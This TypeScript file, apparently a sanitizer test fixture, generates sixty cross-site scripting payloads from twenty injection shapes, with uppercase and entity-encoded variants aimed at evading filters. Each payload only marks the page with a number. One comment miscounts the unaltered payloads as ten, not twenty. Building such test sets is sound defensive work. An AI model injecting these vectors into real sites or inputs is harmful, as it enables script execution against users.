/** Each payload would leave its number on the page. */
const run = (i: number): string => `document.documentElement.setAttribute('data-ran',${i})`

const SHAPES: readonly ((js: string) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<img src=x onerror="${js}">`,
  (js) => `"><svg onload="${js}">`,
  (js) => `</script><script>${js}</script>`,
  (js) => `javascript:${js}`,
  (js) => `<a href="javascript:${js}">aquí</a>`,
  (js) => `</textarea></title><img src=x onerror="${js}">`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  (js) => `' autofocus onfocus="${js}" x='`,
  (js) => `<details open ontoggle="${js}">`,
  (js) => `<!--><script>${js}</script>-->`,
  (js) => `]]><script>${js}</script>`,
  (js) => `<math><mtext><style><img src=x onerror="${js}"></style>`,
  (js) => `<object data="javascript:${js}"></object>`,
  (js) => `<form action="javascript:${js}"><input type=submit autofocus>`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js) => `{{constructor.constructor('${js.replaceAll("'", '"')}')()}}`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `<video><source onerror="${js}"></video>`,
  (js) => `<input value="" autofocus onfocus="${js}">`,
]
/** The same in other letters, as a filter might overlook it. */
const WRITINGS: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => html.replace(/<(\/?)([a-z]+)/g, (_, slash, tag: string) => `<${slash}${tag.toUpperCase()}\t`),
  (html) => html.replaceAll('<', '&lt;').replaceAll('>', '&#62;'),
]

/** Sixty payloads; the first ten are ten shapes as they are. */
export const PAYLOADS: readonly string[] = WRITINGS.flatMap((write, w) =>
  SHAPES.map((shape, s) => write(shape(run(w * SHAPES.length + s)))),
)
